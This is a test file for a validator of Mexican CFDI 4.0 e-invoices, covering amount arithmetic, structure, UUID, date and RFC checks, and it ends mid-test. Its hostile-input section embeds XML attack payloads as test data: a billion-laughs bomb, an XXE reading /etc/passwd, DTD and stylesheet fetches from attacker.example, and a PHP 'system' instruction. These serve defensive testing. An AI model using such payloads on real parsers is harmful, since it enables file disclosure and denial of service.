import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { SaxesParser } from 'saxes';
import { afterEach, describe, expect, it, vi } from 'vitest';
import {
  type CfdiCheckName,
  type CfdiContext,
  type CfdiResult,
  money,
  parseDecimal,
  toCentavos,
  validateCfdi,
} from './cfdi.ts';
import { RFC_GENERIC_PUBLIC, rfcCheckDigit, rfcCheckDigitMatches, rfcKind } from './cfdi-rfc.ts';

const VALID = readFileSync(new URL('./fixtures/cfdi40-valid.xml', import.meta.url), 'utf8');
const SCHOOL_RFC = 'ECA080101A13';
const CTX: CfdiContext = {
  cycle: { from: '2026-01-01', to: '2026-12-31' },
  receptorRfc: SCHOOL_RFC,
  now: new Date('2026-12-01T18:00:00Z'),
};

const validate = (xml: Buffer | string, ctx: Partial<CfdiContext> = {}) =>
  validateCfdi(xml, { ...CTX, ...ctx });
const failed = (r: CfdiResult) => r.checks.filter((c) => !c.ok);
const failedNames = (r: CfdiResult) => failed(r).map((c) => c.check);
const check = (r: CfdiResult, name: CfdiCheckName) => {
  const found = r.checks.find((c) => c.check === name && !c.ok) ?? r.checks.find((c) => c.check === name);
  if (!found) throw new Error(`no check ${name} in ${r.checks.map((c) => c.check).join(', ')}`);
  return found;
};
/** The fixture with one exact substring replaced (fails loudly if the substring is not there). */
const edit = (from: string, to: string, xml = VALID) => {
  expect(xml).toContain(from);
  return xml.replace(from, to);
};

afterEach(() => {
  vi.restoreAllMocks();
});

describe('a valid CFDI 4.0', () => {
  it('passes every check and yields its facts in centavos', () => {
    const r = validate(VALID);
    expect(failed(r)).toEqual([]);
    expect(r.ok).toBe(true);
    expect(r.facts).toEqual({
      uuid: '5E2A8C1D-7B3F-4A9E-8C21-3F6D9B0E4A17',
      version: '4.0',
      issuedAt: '2026-03-15T10:30:00',
      stampedAt: '2026-03-15T10:31:12',
      emisorRfc: 'CPA1201013B1',
      emisorName: 'COMERCIALIZADORA PAPELERA DEL ALTIPLANO',
      receptorRfc: SCHOOL_RFC,
      receptorName: 'CONSEJO ESCOLAR DE PARTICIPACION ESCUELA PRIMARIA EJEMPLO',
      subtotal: 450_500,
      discount: 25_000,
      taxesTransferred: 68_080,
      taxesWithheld: 0,
      total: 493_580,
      currency: 'MXN',
      paymentMethod: 'PUE',
      items: [
        {
          description: 'Cuaderno profesional 100 hojas raya',
          quantity: '40',
          unitValue: 3550,
          amount: 142_000,
        },
        {
          description: 'Caja de gises blancos & de colores',
          quantity: '12',
          unitValue: 4875,
          amount: 58_500,
        },
        {
          description: 'Mantenimiento de bebederos escolares',
          quantity: '1',
          unitValue: 250_000,
          amount: 250_000,
        },
      ],
    });
    // Every check carries both languages.
    for (const c of r.checks) expect(c.es.length * c.en.length).toBeGreaterThan(0);
  });

  it('accepts bytes with a UTF-8 byte-order mark, leading whitespace, and the receptor RFC typed in lower case', () => {
    const r = validate(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`\n  ${VALID}`)]), {
      receptorRfc: ' eca080101a13 ',
    });
    expect(failed(r)).toEqual([]);
  });

  it('judges namespaces by URI, not by prefix', () => {
    // CFDI elements in the default namespace (no prefix at all), the timbre under another prefix.
    const renamed = VALID.replaceAll('cfdi:', '')
      .replace('xmlns:cfdi=', 'xmlns=')
      .replaceAll('tfd:', 't:')
      .replace('xmlns:tfd=', 'xmlns:t=');
    expect(renamed).not.toContain('cfdi:');
    const r = validate(renamed);
    expect(failed(r)).toEqual([]);
    expect(r.facts?.uuid).toBe('5E2A8C1D-7B3F-4A9E-8C21-3F6D9B0E4A17');
  });

  it('accepts público en general as receptor when the rules ask for no RFC', () => {
    const xml = edit(`Rfc="${SCHOOL_RFC}"`, `Rfc="${RFC_GENERIC_PUBLIC}"`);
    expect(validate(xml, { receptorRfc: null }).ok).toBe(true);
    const required = validate(xml);
    expect(required.ok).toBe(false);
    expect(failedNames(required)).toEqual(['rfc.receptor_matches']);
  });
});

describe('amounts', () => {
  it('catches an altered total and names both figures', () => {
    const r = validate(edit('Total="4935.80"', 'Total="5935.80"'));
    expect(r.ok).toBe(false);
    expect(failedNames(r)).toEqual(['amounts.total']);
    const c = check(r, 'amounts.total');
    for (const text of [c.es, c.en]) {
      expect(text).toContain('$5,935.80');
      expect(text).toContain('$4,935.80');
    }
    // The facts are still read, so the director sees what the file claims.
    expect(r.facts?.total).toBe(593_580);
  });

  it("catches one concept's altered Importe, naming the line", () => {
    const r = validate(edit('Importe="1420.00"', 'Importe="1520.00"'));
    expect(r.ok).toBe(false);
    expect(failedNames(r)).toContain('amounts.concept_importe');
    expect(failedNames(r)).toContain('amounts.subtotal');
    const c = check(r, 'amounts.concept_importe');
    expect(c.es).toContain('Concepto 1');
    expect(c.es).toContain('$1,420.00');
    expect(c.es).toContain('$1,520.00');
    expect(c.en).toContain('Line item 1');
  });

  it('tolerates one centavo of rounding per line, not two', () => {
    expect(
      validate(edit('Importe="585.00"', 'Importe="585.01"'), {}).checks.find(
        (c) => c.check === 'amounts.concept_importe',
      )?.ok,
    ).toBe(true);
    const two = validate(edit('Importe="585.00"', 'Importe="585.02"'));
    expect(failedNames(two)).toContain('amounts.concept_importe');
  });

  it('catches tax totals that disagree with the concepts', () => {
    const r = validate(edit('Importe="93.60"', 'Importe="193.60"'));
    expect(failedNames(r)).toContain('amounts.concept_taxes');
    expect(failedNames(r)).toContain('amounts.taxes');
    const summary = validate(
      edit('TotalImpuestosTrasladados="680.80"', 'TotalImpuestosTrasladados="780.80"'),
    );
    expect(failedNames(summary)).toEqual(expect.arrayContaining(['amounts.taxes', 'amounts.total']));
  });

  it('catches a discount that is not the sum of the concept discounts', () => {
    const r = validate(edit('Descuento="250.00" Moneda', 'Descuento="150.00" Moneda'));
    expect(failedNames(r)).toEqual(expect.arrayContaining(['amounts.discount', 'amounts.total']));
  });

  it('compares six-decimal amounts at centavo precision', () => {
    const head = VALID.slice(0, VALID.indexOf('<cfdi:Conceptos>'))
      .replace('SubTotal="4505.00"', 'SubTotal="100.00"')
      .replace(' Descuento="250.00"', '')
      .replace('Total="4935.80"', 'Total="116.00"');
    const tail = VALID.slice(VALID.indexOf('<cfdi:Complemento>'));
    const concept = (importe: string) =>
      `<cfdi:Conceptos><cfdi:Concepto ClaveProdServ="14111500" Cantidad="3" ClaveUnidad="H87" Descripcion="Lápices" ValorUnitario="33.333333" Importe="${importe}" ObjetoImp="02"><cfdi:Impuestos><cfdi:Traslados><cfdi:Traslado Base="${importe}" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.160000" Importe="16.00"/></cfdi:Traslados></cfdi:Impuestos></cfdi:Concepto></cfdi:Conceptos><cfdi:Impuestos TotalImpuestosTrasladados="16.00"><cfdi:Traslados><cfdi:Traslado Base="100.00" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.160000" Importe="16.00"/></cfdi:Traslados></cfdi:Impuestos>`;
    const r = validate(`${head}${concept('99.999999')}${tail}`);
    expect(failed(r)).toEqual([]);
    expect(r.facts?.items[0]).toEqual({
      description: 'Lápices',
      quantity: '3',
      unitValue: 3333,
      amount: 10_000,
    });
    expect(r.facts?.subtotal).toBe(10_000);
    expect(failedNames(validate(`${head}${concept('99.979999')}${tail}`))).toContain(
      'amounts.concept_importe',
    );
  });

  it.each([
    ['1e3'],
    ['0x10'],
    ['-4935.80'],
    ['+4935.80'],
    ['4,935.80'],
    [' 4935.80'],
    ['4935.'],
    ['.80'],
    ['4935.8000001'],
    ['Infinity'],
    ['NaN'],
    [''],
  ])('refuses Total="%s" as not a decimal', (value) => {
    const r = validate(edit('Total="4935.80"', `Total="${value}"`));
    expect(r.ok).toBe(false);
    expect(r.facts).toBeNull();
    const names = failedNames(r);
    expect(names.includes('format.amounts') || names.includes('structure.comprobante')).toBe(true);
    if (value.trim()) expect(check(r, 'format.amounts').es).toContain(`Total="${value}"`);
  });

  it('keeps "0.10" exact (attributes are strings, never floats)', () => {
    expect(parseDecimal('0.10')).toBe(100_000n);
    expect(parseDecimal('0.1')).toBe(100_000n);
    // 0.1 + 0.2 in binary floating point is 0.30000000000000004; here it is exact.
    expect((parseDecimal('0.1') ?? 0n) + (parseDecimal('0.2') ?? 0n)).toBe(parseDecimal('0.3'));
  });
});

describe('exact decimals (properties)', () => {
  const digits = (min: number, max: number) =>
    fc.array(fc.constantFrom(...'0123456789'), { minLength: min, maxLength: max }).map((d) => d.join(''));

  it('parses every SAT decimal to exact millionths and back', () => {
    fc.assert(
      fc.property(digits(1, 18), digits(0, 6), (whole, frac) => {
        const raw = frac ? `${whole}.${frac}` : whole;
        const v = parseDecimal(raw);
        expect(v).toBe(BigInt(whole) * 1_000_000n + BigInt(frac.padEnd(6, '0') || '0'));
        // Round trip: millionths printed back with six decimals parse to the same value.
        const s = `${(v as bigint) / 1_000_000n}.${((v as bigint) % 1_000_000n).toString().padStart(6, '0')}`;
        expect(parseDecimal(s)).toBe(v);
      }),
    );
  });

  it('rounds to centavos half up, as a reference on strings does', () => {
    fc.assert(
      fc.property(fc.bigInt({ min: 0n, max: 10n ** 24n }), (micros) => {
        const s = micros.toString().padStart(7, '0');
        const whole = BigInt(s.slice(0, -4));
        const rest = Number(s.slice(-4));
        expect(toCentavos(micros)).toBe(rest >= 5000 ? whole + 1n : whole);
      }),
    );
  });

  it('refuses whatever is not digits with an optional point and 1–6 decimals', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (s) => {
        const v = parseDecimal(s);
        expect(v === null).toBe(!/^[0-9]{1,18}(\.[0-9]{1,6})?$/.test(s));
      }),
    );
    fc.assert(
      fc.property(fc.double({ noNaN: true }), (n) => {
        const s = String(n);
        if (/[eE+-]|Infinity/.test(s)) expect(parseDecimal(s)).toBeNull();
      }),
    );
  });

  it('formats pesos with thousands separators', () => {
    expect(money(0n)).toBe('$0.00');
    expect(money(1_234_567_890_000n)).toBe('$1,234,567.89');
    expect(money(5_000n)).toBe('$0.01');
    expect(money(-1_000_000n)).toBe('−$1.00');
  });
});

// A generated CFDI: random lines with taxes computed the way an issuer's system does.
interface Line {
  qty: bigint; // thousandths
  unit: bigint; // centavos
  withholding: boolean;
}
const fmt = (v: bigint, decimals: number) => {
  const s = v.toString().padStart(decimals + 1, '0');
  return `${s.slice(0, -decimals)}.${s.slice(-decimals)}`;
};
const roundDiv = (a: bigint, b: bigint) => (a + b / 2n) / b;

function generated(
  lines: Line[],
  totalDelta = 0n,
): { xml: string; total: bigint; tras: bigint; ret: bigint } {
  let sub = 0n;
  let tras = 0n;
  let ret = 0n;
  const concepts = lines.map((l, i) => {
    const importe = roundDiv(l.qty * l.unit, 1000n); // centavos
    const iva = roundDiv(importe * 16n, 100n);
    const isr = l.withholding ? roundDiv(importe * 10n, 100n) : 0n;
    sub += importe;
    tras += iva;
    ret += isr;
    const retencion = l.withholding
      ? `<cfdi:Retenciones><cfdi:Retencion Base="${fmt(importe, 2)}" Impuesto="001" TipoFactor="Tasa" TasaOCuota="0.100000" Importe="${fmt(isr, 2)}"/></cfdi:Retenciones>`
      : '';
    return `<cfdi:Concepto ClaveProdServ="14111500" Cantidad="${fmt(l.qty, 3)}" ClaveUnidad="H87" Descripcion="Material ${i + 1}" ValorUnitario="${fmt(l.unit, 2)}" Importe="${fmt(importe, 2)}" ObjetoImp="02"><cfdi:Impuestos><cfdi:Traslados><cfdi:Traslado Base="${fmt(importe, 2)}" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.160000" Importe="${fmt(iva, 2)}"/></cfdi:Traslados>${retencion}</cfdi:Impuestos></cfdi:Concepto>`;
  });
  const total = sub + tras - ret;
  const retAttr = ret > 0n ? ` TotalImpuestosRetenidos="${fmt(ret, 2)}"` : '';
  const retNode =
    ret > 0n
      ? `<cfdi:Retenciones><cfdi:Retencion Impuesto="001" Importe="${fmt(ret, 2)}"/></cfdi:Retenciones>`
      : '';
  const head = VALID.slice(0, VALID.indexOf('<cfdi:Conceptos>'));
  const tail = VALID.slice(VALID.indexOf('<cfdi:Complemento>'));
  const xml = `${head
    .replace('SubTotal="4505.00"', `SubTotal="${fmt(sub, 2)}"`)
    .replace(' Descuento="250.00"', '')
    .replace(
      'Total="4935.80"',
      `Total="${fmt(total + totalDelta, 2)}"`,
    )}<cfdi:Conceptos>${concepts.join('')}</cfdi:Conceptos><cfdi:Impuestos${retAttr} TotalImpuestosTrasladados="${fmt(tras, 2)}">${retNode}<cfdi:Traslados><cfdi:Traslado Base="${fmt(sub, 2)}" Impuesto="002" TipoFactor="Tasa" TasaOCuota="0.160000" Importe="${fmt(tras, 2)}"/></cfdi:Traslados></cfdi:Impuestos>${tail}`;
  return { xml, total: total + totalDelta, tras, ret };
}

const lineArb = fc.record({
  qty: fc.bigInt({ min: 1n, max: 500_000n }),
  unit: fc.bigInt({ min: 0n, max: 5_000_000n }),
  withholding: fc.boolean(),
});

describe('total arithmetic (properties)', () => {
  it('accepts any consistent invoice and reports its totals in centavos', () => {
    fc.assert(
      fc.property(fc.array(lineArb, { minLength: 1, maxLength: 12 }), (lines) => {
        const g = generated(lines);
        const r = validate(g.xml);
        expect(failed(r)).toEqual([]);
        expect(r.facts?.total).toBe(Number(g.total));
        expect(r.facts?.taxesTransferred).toBe(Number(g.tras));
        expect(r.facts?.taxesWithheld).toBe(Number(g.ret));
      }),
      { numRuns: 60 },
    );
  });

  it('refuses any total off by more than a centavo, naming the stated and the computed figure', () => {
    fc.assert(
      fc.property(
        fc.array(lineArb, { minLength: 1, maxLength: 6 }),
        fc.bigInt({ min: 2n, max: 10_000_000n }),
        (lines, delta) => {
          const g = generated(lines, delta);
          const r = validate(g.xml);
          expect(failedNames(r)).toEqual(['amounts.total']);
          expect(check(r, 'amounts.total').en).toContain(money(g.total * 10_000n));
          expect(check(r, 'amounts.total').en).toContain(money((g.total - delta) * 10_000n));
        },
      ),
      { numRuns: 40 },
    );
  });
});

describe('structure', () => {
  it('refuses a CFDI 3.3 and says why', () => {
    const r = validate(
      edit('http://www.sat.gob.mx/cfd/4"', 'http://www.sat.gob.mx/cfd/3"').replace(
        'Version="4.0"',
        'Version="3.3"',
      ),
    );
    expect(r.ok).toBe(false);
    expect(failedNames(r)).toEqual(['structure.root']);
    expect(check(r, 'structure.root').es).toContain('3.3');
    expect(check(r, 'structure.root').en).toContain('CFDI 4.0');
  });

  it('refuses a Comprobante in another namespace, whatever its prefix', () => {
    const r = validate(
      edit('xmlns:cfdi="http://www.sat.gob.mx/cfd/4"', 'xmlns:cfdi="http://example.com/cfd/4"'),
    );
    expect(failedNames(r)).toEqual(['structure.root']);
    expect(check(r, 'structure.root').en).toContain('http://example.com/cfd/4');
  });

  it('refuses the wrong root element', () => {
    const xml = VALID.replace('<cfdi:Comprobante ', '<cfdi:Factura ').replace(
      '</cfdi:Comprobante>',
      '</cfdi:Factura>',
    );
    const r = validate(xml);
    expect(failedNames(r)).toEqual(['structure.root']);
    expect(check(r, 'structure.root').es).toContain('<cfdi:Factura>');
    expect(validate('<?xml version="1.0"?><html><body/></html>').checks.at(-1)?.check).toBe('structure.root');
  });

  it('refuses a Version other than 4.0 in the 4.0 namespace', () => {
    expect(failedNames(validate(edit('Version="4.0"', 'Version="3.3"')))).toContain('structure.version');
  });

  it('refuses an invoice without a timbre, or with the timbre only in the Addenda', () => {
    const start = VALID.indexOf('<cfdi:Complemento>');
    const end = VALID.indexOf('</cfdi:Complemento>') + '</cfdi:Complemento>'.length;
    const unstamped = VALID.slice(0, start) + VALID.slice(end);
    const r = validate(unstamped);
    expect(r.ok).toBe(false);
    expect(r.facts).toBeNull();
    expect(failedNames(r)).toEqual(['structure.timbre']);
    expect(check(r, 'structure.timbre').es).toContain('timbrada');
    const timbre = VALID.slice(start + '<cfdi:Complemento>'.length, end - '</cfdi:Complemento>'.length);
    const inAddenda = unstamped.replace('<cfdi:Addenda>', `<cfdi:Addenda>${timbre}`);
    expect(failedNames(validate(inAddenda))).toEqual(['structure.timbre']);
  });

  it('refuses two timbres (two UUIDs for one invoice)', () => {
    const timbre = VALID.slice(
      VALID.indexOf('<tfd:TimbreFiscalDigital'),
      VALID.indexOf('</cfdi:Complemento>'),
    );
    const r = validate(
      edit('</cfdi:Complemento>', `${timbre.replace('5e2a8c1d', '6e2a8c1d')}</cfdi:Complemento>`),
    );
    expect(failedNames(r)).toEqual(['structure.timbre']);
  });

  it('names missing required attributes and elements', () => {
    const r = validate(edit(' DomicilioFiscalReceptor="50000"', ''));
    expect(failedNames(r)).toEqual(['structure.receptor']);
    expect(check(r, 'structure.receptor').en).toContain('DomicilioFiscalReceptor');
    const noEmisor = validate(
      edit(
        '<cfdi:Emisor Rfc="CPA1201013B1" Nombre="COMERCIALIZADORA PAPELERA DEL ALTIPLANO" RegimenFiscal="601"/>',
        '',
      ),
    );
    expect(failedNames(noEmisor)).toEqual(['structure.emisor']);
    const noSello = validate(edit(' Sello="', ' Sellos="'));
    expect(failedNames(noSello)).toEqual(['structure.comprobante']);
    expect(check(noSello, 'structure.comprobante').es).toContain('Sello');
    const concept = validate(edit(' ClaveUnidad="XBX"', ''));
    expect(check(concept, 'structure.conceptos').es).toContain('Concepto 2');
  });

  it('refuses a malformed document, an undeclared entity and an unbound prefix in the parser', () => {
    expect(failedNames(validate(VALID.slice(0, 2000)))).toEqual(['xml.well_formed']);
    expect(failedNames(validate(edit('&amp;', '&xxe;')))).toEqual(['xml.well_formed']);
    expect(failedNames(validate(edit('<cfdi:Addenda>', '<cfdi:Addenda><x:y/>')))).toEqual([
      'xml.well_formed',
    ]);
    expect(failedNames(validate(edit('Serie="A"', 'Serie="A" Serie="B"')))).toEqual(['xml.well_formed']);
  });

  it('refuses absurd nesting without exhausting the stack', () => {
    const deep = `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`;
    const r = validate(edit('<cfdi:Addenda>', `<cfdi:Addenda>${deep}`));
    expect(failedNames(r)).toEqual(['xml.well_formed']);
    expect(check(r, 'xml.well_formed').es).toContain('niveles de anidación');
  });

  it('refuses a type other than ingreso', () => {
    const r = validate(edit('TipoDeComprobante="I"', 'TipoDeComprobante="E"'));
    expect(failedNames(r)).toEqual(['type']);
    expect(check(r, 'type').es).toContain('nota de crédito');
  });
});

describe('UUID', () => {
  it.each([
    ['5e2a8c1d-7b3f-4a9e-8c21-3f6d9b0e4a1'],
    ['5e2a8c1d7b3f4a9e8c213f6d9b0e4a17'],
    ['5e2a8c1d-7b3f-4a9e-8c21-3f6d9b0e4a1g'],
    ['{5e2a8c1d-7b3f-4a9e-8c21-3f6d9b0e4a17}'],
    ['00000000-0000-0000-0000-000000000000'],
  ])('refuses UUID="%s"', (uuid) => {
    const r = validate(edit('UUID="5e2a8c1d-7b3f-4a9e-8c21-3f6d9b0e4a17"', `UUID="${uuid}"`));
    expect(failedNames(r)).toEqual(['format.uuid']);
    expect(r.facts).toBeNull();
    expect(check(r, 'format.uuid').en).toContain(uuid);
  });

  it('normalises the UUID to upper case, so one invoice has one key', () => {
    const upper = validate(
      edit('5e2a8c1d-7b3f-4a9e-8c21-3f6d9b0e4a17', '5E2A8C1D-7B3F-4A9E-8C21-3F6D9B0E4A17'),
    );
    expect(upper.facts?.uuid).toBe(validate(VALID).facts?.uuid);
  });
});

describe('programme rules', () => {
  it('refuses a currency other than MXN, naming it', () => {
    const r = validate(edit('Moneda="MXN"', 'Moneda="USD" TipoCambio="17.2500"'));
    expect(r.ok).toBe(false);
    expect(failedNames(r)).toEqual(['currency']);
    expect(check(r, 'currency').es).toContain('USD');
    expect(check(r, 'currency').en).toContain('MXN');
  });

  it('refuses an invoice dated outside the cycle', () => {
    const r = validate(VALID, { cycle: { from: '2025-01-01', to: '2025-12-31' } });
    expect(failedNames(r)).toEqual(['dates.cycle']);
    expect(check(r, 'dates.cycle').es).toContain('2026-03-15');
    expect(check(r, 'dates.cycle').en).toContain('2025-01-01');
  });

  it('refuses a future date, but not an invoice issued a moment ago in Quintana Roo', () => {
    const r = validate(VALID, { now: new Date('2026-03-01T12:00:00Z') });
    expect(failedNames(r)).toEqual(['dates.future']);
    // 10:31:12 Mexico City time is 16:31:12 UTC; issued 10:30 in Cancún is 15:30 UTC.
    expect(validate(VALID, { now: new Date('2026-03-15T16:32:00Z') }).ok).toBe(true);
    expect(failedNames(validate(VALID, { now: new Date('2026-03-15T15:00:00Z') }))).toEqual(['dates.future']);
  });

  it('refuses a stamp dated before the invoice (beyond the time-zone allowance)', () => {
    const r = validate(edit('FechaTimbrado="2026-03-15T10:31:12"', 'FechaTimbrado="2026-03-15T08:00:00"'));
    expect(failedNames(r)).toEqual(['dates.stamp_order']);
    expect(
      validate(edit('FechaTimbrado="2026-03-15T10:31:12"', 'FechaTimbrado="2026-03-15T09:45:00"')).ok,
    ).toBe(true);
  });

  it('refuses impossible dates', () => {
    expect(failedNames(validate(edit('Fecha="2026-03-15T10:30:00"', 'Fecha="2026-02-30T10:30:00"')))).toEqual(
      ['format.dates'],
    );
    expect(failedNames(validate(edit('Fecha="2026-03-15T10:30:00"', 'Fecha="2026-03-15"')))).toEqual([
      'format.dates',
    ]);
  });

  it("refuses a receptor RFC other than the school's, naming both", () => {
    const r = validate(VALID, { receptorRfc: 'EPR990101AB1' });
    expect(r.ok).toBe(false);
    expect(failedNames(r)).toEqual(['rfc.receptor_matches']);
    for (const text of [check(r, 'rfc.receptor_matches').es, check(r, 'rfc.receptor_matches').en]) {
      expect(text).toContain(SCHOOL_RFC);
      expect(text).toContain('EPR990101AB1');
    }
  });

  it('only warns about an RFC whose check digit does not match', () => {
    const xml = edit(`Rfc="${SCHOOL_RFC}"`, 'Rfc="ECA080101A14"');
    const r = validate(xml, { receptorRfc: 'ECA080101A14' });
    expect(r.ok).toBe(true);
    expect(r.facts).not.toBeNull();
    const c = check(r, 'rfc.receptor_check_digit');
    expect(c).toMatchObject({ ok: false, severity: 'warning' });
    expect(c.es).toContain('Aviso');
    expect(c.en).toContain('(3)');
  });

  it('refuses an invalid RFC format, a generic issuer and a foreign receptor', () => {
    expect(failedNames(validate(edit('Rfc="CPA1201013B1"', 'Rfc="CPA1213013B1"')))).toEqual([
      'format.emisor_rfc',
    ]);
    expect(failedNames(validate(edit('Rfc="CPA1201013B1"', 'Rfc="cpa1201013b1"')))).toEqual([
      'format.emisor_rfc',
    ]);
    expect(failedNames(validate(edit('Rfc="CPA1201013B1"', `Rfc="${RFC_GENERIC_PUBLIC}"`)))).toEqual([
      'rfc.emisor_generic',
    ]);
    const foreign = validate(edit(`Rfc="${SCHOOL_RFC}"`, 'Rfc="XEXX010101000"'), { receptorRfc: null });
    expect(failedNames(foreign)).toEqual(['rfc.receptor_generic']);
  });

  it("refuses a timbre whose SelloCFD is not the invoice's Sello", () => {
    const r = validate(edit('SelloCFD="bW9ja', 'SelloCFD="Zm9ja'));
    expect(failedNames(r)).toEqual(['timbre.sello']);
  });
});

describe('hostile input is refused before any parser runs', () => {
  const parserWrites = () => vi.spyOn(SaxesParser.prototype, 'write');
  const refusedBeforeParsing = (input: Buffer | string, expected: CfdiCheckName) => {
    const spy = parserWrites();
    const r = validate(input);
    expect(spy).not.toHaveBeenCalled();
    expect(r.ok).toBe(false);
    expect(r.facts).toBeNull();
    expect(failedNames(r)).toEqual([expected]);
    expect(r.checks.map((c) => c.check)).not.toContain('xml.well_formed');
    return r;
  };

  it('the spy does see the parser on a normal document', () => {
    const spy = parserWrites();
    validate(VALID);
    expect(spy).toHaveBeenCalled();
  });

  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Version="4.0" Total="&lol9;"/>`;
  const xxe = VALID.replace(
    '<cfdi:Comprobante ',
    '<!DOCTYPE cfdi:Comprobante [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<cfdi:Comprobante ',
  ).replace('Nombre="COMERCIALIZADORA PAPELERA DEL ALTIPLANO"', 'Nombre="&xxe;"');

  it.each([
    ['billion laughs', billionLaughs],
    ['an external entity (XXE)', xxe],
    [
      'a lower-case doctype after whitespace',
      `\n\n   <!doctype x SYSTEM "http://attacker.example/x.dtd">${VALID.slice(VALID.indexOf('<cfdi:Comprobante'))}`,
    ],
    ['a DOCTYPE after the XML declaration', VALID.replace('?>', '?><!DoCtYpE cfdi:Comprobante>')],
    ['an ENTITY hidden in a comment', VALID.replace('<!-- Made-up', '<!-- <!ENTITY x "y"> Made-up')],
    ['a DOCTYPE inside CDATA', edit('<cfdi:Addenda>', '<cfdi:Addenda><![CDATA[<!DOCTYPE x>]]>')],
    ['a parameter entity', `<!ENTITY % ext SYSTEM "http://attacker.example/e.dtd">${VALID}`],
    ['an ATTLIST', VALID.replace('?>', '?><!ATTLIST cfdi:Comprobante Total CDATA "9999">')],
  ])('%s', (_name, payload) => {
    const r = refusedBeforeParsing(payload, 'input.no_dtd');
    expect(check(r, 'input.no_dtd').en).toMatch(/declaration/);
  });

  it('a DOCTYPE after a UTF-8 byte-order mark', () => {
    refusedBeforeParsing(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xxe)]), 'input.no_dtd');
  });

  it.each([
    ['UTF-16LE with BOM', Buffer.from(`\uFEFF${VALID}`, 'utf16le')],
    ['UTF-16LE with BOM and a DOCTYPE', Buffer.from(`\uFEFF${xxe}`, 'utf16le')],
    ['UTF-16LE without BOM', Buffer.from(billionLaughs, 'utf16le')],
    ['UTF-16BE with BOM', Buffer.from(`\uFEFF${xxe}`, 'utf16le').swap16()],
    ['UTF-16BE without BOM', Buffer.from(billionLaughs, 'utf16le').swap16()],
    ['UTF-32LE', Buffer.from([0xff, 0xfe, 0x00, 0x00, 0x3c, 0x00, 0x00, 0x00])],
  ])('refuses %s as not UTF-8', (_name, payload) => {
    const r = refusedBeforeParsing(payload, 'input.encoding');
    expect(check(r, 'input.encoding').es).toMatch(/UTF-8/);
  });

  it('refuses NUL bytes, invalid UTF-8 and a declared non-UTF-8 encoding', () => {
    refusedBeforeParsing(
      Buffer.concat([Buffer.from(VALID.slice(0, 100)), Buffer.from([0]), Buffer.from(VALID.slice(100))]),
      'input.encoding',
    );
    refusedBeforeParsing(
      Buffer.concat([
        Buffer.from(VALID.slice(0, 100)),
        Buffer.from([0xc3, 0x28]),
        Buffer.from(VALID.slice(100)),
      ]),
      'input.encoding',
    );
    const latin = refusedBeforeParsing(
      VALID.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
      'input.encoding',
    );
    expect(check(latin, 'input.encoding').en).toContain('ISO-8859-1');
    refusedBeforeParsing(VALID.replace('encoding="UTF-8"', "encoding='UTF-16'"), 'input.encoding');
    refusedBeforeParsing(`\uFEFF${VALID.slice(0, 50)}\u0000${VALID.slice(50)}`, 'input.encoding');
  });

  it('refuses a 50 MB buffer by its size, quickly', () => {
    const huge = Buffer.alloc(50 * 1024 * 1024, 0x20);
    const started = performance.now();
    const r = refusedBeforeParsing(huge, 'input.size');
    expect(performance.now() - started).toBeLessThan(50);
    expect(check(r, 'input.size').es).toContain('50.0 MB');
    expect(check(r, 'input.size').en).toContain('2.0 MB');
  });

  it('refuses a 50 MB string by its size, and honours a smaller maxBytes', () => {
    const spy = parserWrites();
    const huge = ' '.repeat(50 * 1024 * 1024);
    const started = performance.now();
    expect(failedNames(validate(huge))).toEqual(['input.size']);
    expect(performance.now() - started).toBeLessThan(50);
    expect(failedNames(validate(VALID, { maxBytes: 1000 }))).toEqual(['input.size']);
    // Multi-byte characters count as bytes, not as characters.
    expect(failedNames(validate('ñ'.repeat(600), { maxBytes: 1000 }))).toEqual(['input.size']);
    expect(spy).not.toHaveBeenCalled();
  });

  it.each([
    [
      'a stylesheet',
      VALID.replace('?>', '?><?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>'),
      '<?xml-stylesheet',
    ],
    ['a PI inside the document', edit('<cfdi:Addenda>', '<cfdi:Addenda><?php system("id"); ?>'), '<?php'],
    [
      'a PI instead of a declaration',
      `<?foo bar?>${VALID.slice(VALID.indexOf('<cfdi:Comprobante'))}`,
      '<?foo',
    ],
    ['a second XML declaration', edit('<cfdi:Addenda>', '<cfdi:Addenda><?xml version="1.0"?>'), '<?xml'],
  ])('refuses a processing instruction: %s', (_name, payload, target) => {
    const r = refusedBeforeParsing(payload, 'input.no_processing_instruction');
    expect(check(r, 'input.no_processing_instruction').es).toContain(target);
  });
});

describe('RFC check digit (research/security.md §6.3 vectors)', () => {
  it.each([
    ['GODE561231GR8', true, 'person'],
    ['MAB9307148T4', true, 'company'],
    ['EKU9003173C9', true, 'company'],
    ['VACE460910SX6', false, 'person'],
    ['XAXX010101000', false, 'generic_public'],
  ])('%s', (rfc, matches, kind) => {
    expect(rfcCheckDigitMatches(rfc)).toBe(matches);
    expect(rfcKind(rfc)).toBe(kind);
  });

  it('always finds a digit that makes the key valid, and recognises it', () => {
    const letter = fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZ&Ñ');
    const alnum = fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789');
    fc.assert(
      fc.property(
        fc.array(letter, { minLength: 3, maxLength: 4 }),
        fc.date({ min: new Date('1930-01-01'), max: new Date('2029-12-31'), noInvalidDate: true }),
        fc.array(alnum, { minLength: 2, maxLength: 2 }),
        (letters, date, homoclave) => {
